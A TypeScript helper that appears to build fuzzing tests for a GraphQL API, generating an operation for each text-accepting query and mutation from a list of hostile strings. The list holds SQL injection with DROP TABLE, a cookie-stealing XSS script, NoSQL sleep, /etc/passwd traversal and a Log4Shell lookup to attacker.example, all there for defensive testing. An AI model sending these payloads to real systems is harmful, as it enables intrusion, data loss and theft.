import {
  buildClientSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  isLeafType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
  type IntrospectionQuery,
} from 'graphql';

/** Strings an attacker would try in any text input. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1'; DROP TABLE accounts.customer; --",
  '<script>alert(document.cookie)</script>',
  '{"$where": "sleep(1000)"}',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/a}',
  'nul\u0000byte',
  '\u202Eevil\u200B\uFEFF',
];

/** Valid values for scalars that are not free text, so the hostile string reaches the resolver. */
const SCALAR_SAMPLES: Record<string, unknown> = {
  Int: 1,
  Float: 1,
  Boolean: false,
  Decimal: '1.00',
  LocalDate: '2026-01-15',
  DateTime: '2026-12-31T00:00:00.000Z',
};

function sample(type: GraphQLInputType, text: string, depth: number): unknown {
  if (isNonNullType(type)) return sample(type.ofType, text, depth);
  if (isListType(type)) return [sample(type.ofType, text, depth)];
  if (isEnumType(type)) return type.getValues()[0]?.value;
  if (isScalarType(type)) return type.name in SCALAR_SAMPLES ? SCALAR_SAMPLES[type.name] : text;
  if (isInputObjectType(type) && depth < 4)
    return Object.fromEntries(
      Object.values(type.getFields()).map((f) => [f.name, sample(f.type, text, depth + 1)]),
    );
  return null;
}

const hasText = (args: readonly GraphQLArgument[]): boolean => {
  const seen = new Set<string>();
  const visit = (type: GraphQLInputType): boolean => {
    const named = getNamedType(type);
    if (isScalarType(named)) return !(named.name in SCALAR_SAMPLES);
    if (!isInputObjectType(named) || seen.has(named.name)) return false;
    seen.add(named.name);
    return Object.values(named.getFields()).some((f) => visit(f.type));
  };
  return args.some((a) => visit(a.type));
};

export interface HostileOperation {
  name: string;
  query: string;
  variables: Record<string, unknown>;
}

/**
 * For every query and mutation with a free-text argument (String, ID or a custom text scalar,
 * directly or inside input objects), one operation per hostile string with every text field set to
 * it and every other field to a valid sample. The selection is `__typename` or nothing (scalars).
 */
export function hostileOperations(
  introspection: IntrospectionQuery,
  skip: readonly string[],
): HostileOperation[] {
  const schema: GraphQLSchema = buildClientSchema(introspection);
  const roots = [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
  ] as const;
  const operations: HostileOperation[] = [];
  for (const [kind, root] of roots) {
    for (const field of Object.values(root?.getFields() ?? {}) as GraphQLField<
      unknown,
      unknown
    >[]) {
      if (skip.includes(field.name) || !hasText(field.args)) continue;
      const declared = field.args.map((a) => `$${a.name}: ${String(a.type)}`).join(', ');
      const passed = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
      const selection = isLeafType(getNamedType(field.type)) ? '' : ' { __typename }';
      for (const text of HOSTILE_STRINGS)
        operations.push({
          name: field.name,
          query: `${kind} (${declared}) { ${field.name}(${passed})${selection} }`,
          variables: Object.fromEntries(field.args.map((a) => [a.name, sample(a.type, text, 0)])),
        });
    }
  }
  return operations;
}
